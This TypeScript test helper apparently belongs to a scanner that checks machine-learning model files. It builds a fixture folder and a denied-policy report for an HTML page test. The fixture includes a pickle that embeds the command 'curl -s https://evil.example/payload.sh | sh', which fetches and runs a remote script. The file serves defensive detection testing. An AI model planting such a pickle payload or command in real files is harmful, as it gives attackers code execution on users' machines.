import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ScanResult } from '../../src/core/report-types.js';
import { scan } from '../../src/app/index.js';
import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { osSystemPickle } from '../helpers/pickles.js';

/** The shell command hidden in the example's pickle. */
export const EXAMPLE_COMMAND = 'curl -s https://evil.example/payload.sh | sh';

/** The commit the example's source resolved to. */
export const EXAMPLE_COMMIT = '3f1c0ad5e2b94c7d8e6a1b2c3d4e5f60718293a4';

/**
 * A realistic report for the HTML page's browser test and screenshot: a real `scan()` of a
 * temporary folder holding a pickle that runs a shell command, a clean safetensors file and a
 * truncated one, with a Hugging Face `source` and a policy `decision` of deny added by hand
 * (those come from the Hub source and the policy gate, which this example does not run).
 */
export async function exampleScan(): Promise<ScanResult> {
  const dir = mkdtempSync(join(tmpdir(), 'modelgate-html-example-'));
  try {
    const tensors = [
      { name: 'embeddings.word_embeddings.weight', dtype: 'F32', shape: [64, 16] },
      { name: 'encoder.layer.0.attention.self.query.weight', dtype: 'F32', shape: [16, 16] },
    ];
    writeFileSync(join(dir, 'pytorch_model.bin'), osSystemPickle(EXAMPLE_COMMAND));
    writeFileSync(join(dir, 'model.safetensors'), buildSafetensors({ tensors }));
    // A safetensors file cut short inside its header: it cannot be read, so its verdict is error.
    writeFileSync(join(dir, 'adapter_model.safetensors'), buildSafetensors({ tensors }).subarray(0, 24));
    const result = await scan([dir]);
    // The temporary folder's name changes every run; a person reads the repo name instead.
    result.targets = ['hf:acme-research/bert-tiny'];
    result.source = { repo: 'acme-research/bert-tiny', revision: 'main', commit: EXAMPLE_COMMIT };
    result.decision = {
      allow: false,
      policy: '/etc/modelgate/production.yaml',
      reasons: [
        {
          rule: 'maxSeverity',
          message: 'a critical finding is above the highest allowed severity (low)',
          path: 'pytorch_model.bin',
          ruleId: 'pickle/dangerous-callable',
        },
        { rule: 'formats', message: 'pickle is not an allowed format (allowed: safetensors)', path: 'pytorch_model.bin' },
        { rule: 'requirePinnedRevision', message: 'revision main is a branch, not a commit sha' },
      ],
    };
    return result;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
